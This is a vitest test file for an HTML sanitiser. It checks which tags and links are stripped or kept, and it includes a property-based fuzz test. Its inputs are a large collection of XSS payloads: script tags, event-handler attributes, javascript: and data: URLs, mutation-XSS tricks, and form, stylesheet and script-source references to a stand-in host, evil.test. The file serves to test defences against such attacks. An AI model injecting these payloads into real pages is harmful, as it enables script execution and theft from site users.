import { sized } from '@candor/testkit/test-size';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from './sanitise-html';

const ALLOWED_TAG =
  /^<\/?(?:p|h[2-4]|ul|ol|li|b|strong|i|em|table|thead|tbody|tr|th|td)>$|^<br \/>$|^<\/a>$|^<a(?: href="(?:https:\/\/|\/h5\/)[^"<>]*" rel="noopener noreferrer")?>$|^<img src="\/h5\/img\/[^"<>]*" alt="[^"<>]*" \/>$/i;

/** Independent check: every "<" must start one of the allowed tags in its canonical form. */
const expectHarmless = (html: string): void => {
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(ALLOWED_TAG);
};

describe('what is taken out', () => {
  test.each([
    ['<script>alert(1)</script>', ''],
    ['<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'],
    ['<ScRiPt src=//evil.test/x.js></sCrIpT>', ''],
    ['<script>alert(1)', ''],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['<img src=x onerror=alert(1)>', ''],
    ['<img src="/h5/img/a.svg" onerror=alert(1) style="x">', '<img src="/h5/img/a.svg" alt="" />'],
    ['<img src="/h5/../api/user/logout">', ''],
    ['<img src="//evil.test/h5/img/a.svg">', ''],
    ['<img src="https://evil.test/pixel.png">', ''],
    ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', ''],
    ['<p onclick="alert(1)" style="position:fixed" class="x" id="y">a</p>', '<p>a</p>'],
    ['<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="JaVaScRiPt:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="&#106;avascript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="java\nscript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href=" javascript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
    ['<a href="vbscript:x">a</a>', '<a>a</a>'],
    ['<a href="http://plain.test/">a</a>', '<a>a</a>'],
    ['<a href="//evil.test/">a</a>', '<a>a</a>'],
    ['<a href="https://candor.test@evil.test/">a</a>', '<a>a</a>'],
    ['<a href="https:\\\\evil.test">a</a>', '<a>a</a>'],
    ['<a href="/api/user/logout">a</a>', '<a>a</a>'],
    ['<a href="/h5/\\evil.test">a</a>', '<a>a</a>'],
    ['<a href="/h5/../api/user/logout">a</a>', '<a>a</a>'],
    ['<a href="/h5/x/../../ops/">a</a>', '<a>a</a>'],
    ['<a href="https:///evil.test">a</a>', '<a href="https://evil.test/" rel="noopener noreferrer">a</a>'],
    ['<svg onload=alert(1)><text>t</text></svg>', ''],
    ['<svg><script>alert(1)</script></svg>', ''],
    ['<math><mtext><img src=x onerror=alert(1)></mtext></math>', ''],
    ['<style>body{background:url(//evil.test)}</style>a', 'a'],
    ['<link rel=stylesheet href=//evil.test/x.css>', ''],
    ['<meta http-equiv=refresh content="0;url=//evil.test">', ''],
    ['<base href="//evil.test/">', ''],
    ['<iframe src="https://evil.test"></iframe>', ''],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
    ['<object data=x></object><embed src=x>', ''],
    ['<form action="https://evil.test"><input name=password><button>b</button></form>', 'b'],
    ['<textarea><script>alert(1)</script></textarea>', ''],
    ['<template><script>alert(1)</script></template>', ''],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
    ['<details open ontoggle=alert(1)>a</details>', 'a'],
    ['<video><source onerror=alert(1)></video>', ''],
    ['<p>a</p onmouseover=alert(1)>', '<p>a</p>'],
    ['<b/onclick=alert(1)>a</b>', '<b>a</b>'],
    ['<font size=7>a</font><marquee>b</marquee>', 'ab'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ])('%s', (dirty, clean) => {
    expect(sanitiseHtml(dirty)).toBe(clean);
    expectHarmless(clean);
    expect(sanitiseHtml(clean)).toBe(clean);
  });
});

describe('what is kept', () => {
  test.each([
    '<h2>a</h2><h3>b</h3><h4>c</h4>',
    '<p>a<br />b <b>c</b> <strong>d</strong> <i>e</i> <em>f</em></p>',
    '<ul><li>a</li></ul><ol><li>b</li></ol>',
    '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    '<a href="https://example.test/a?b=c&amp;d=e" rel="noopener noreferrer">a</a>',
    '<a href="/h5/#/pages/common/article?key=faq" rel="noopener noreferrer">a</a>',
    '<img src="/h5/img/banners/books.svg" alt="a book" />',
    'ไทย 中文 日本語 한국어 « à » ¿?',
  ])('%s', (html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  test.each([
    ['HTTPS://Example.TEST/A/../b', 'https://example.test/b'],
    ['https://example.test:443', 'https://example.test/'],
    ['https://exаmple.test/', 'https://xn--exmple-4nf.test/'],
    ['/h5/./a/../#/pages/x?y=1', '/h5/#/pages/x?y=1'],
  ])('the link %s is stored as %s', (written, stored) => {
    const html = `<a href="${stored}" rel="noopener noreferrer">a</a>`;
    expect(sanitiseHtml(`<a href="${written}">a</a>`)).toBe(html);
    expect(sanitiseHtml(html)).toBe(html);
  });

  test('a link always has rel="noopener noreferrer"', () => {
    expect(sanitiseHtml('<a href="https://example.test/" rel="opener" target="_blank">a</a>')).toBe(
      '<a href="https://example.test/" rel="noopener noreferrer">a</a>',
    );
  });

  test('open tags are closed, deep nesting is cut', () => {
    expect(sanitiseHtml('<p><b>a')).toBe('<p><b>a</b></p>');
    const deep = sanitiseHtml(`${'<ul><li>'.repeat(500)}a`);
    expect(deep.match(/<ul>/g)?.length ?? 0).toBeLessThan(30);
  });
});

const PIECES = [
  '<script>',
  '</script>',
  '<svg>',
  '</svg>',
  '<style>',
  '<p>',
  '</p>',
  '<a href="',
  'javascript:',
  'https://x.test/',
  '">',
  '</a>',
  '<img src=',
  '/h5/img/a.svg',
  ' onerror=alert(1)',
  '>',
  '<',
  '"',
  "'",
  '&lt;',
  '&#x3c;',
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '\0',
  '\n',
  '<table>',
  '<td>',
  '<template>',
  '<math>',
  '<xmp>',
  '</xmp>',
  '<plaintext>',
  '<title>',
  '</title>',
  'text',
  '/',
  ' ',
];

test('random mixtures of HTML are safe after sanitising, and sanitising again changes nothing', {
  timeout: 600_000,
}, () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 24 }), (pieces) => {
      const once = sanitiseHtml(pieces.join(''));
      expectHarmless(once);
      expect(sanitiseHtml(once)).toBe(once);
    }),
    { numRuns: sized({ usual: 400, full: 2_000 }) },
  );
});
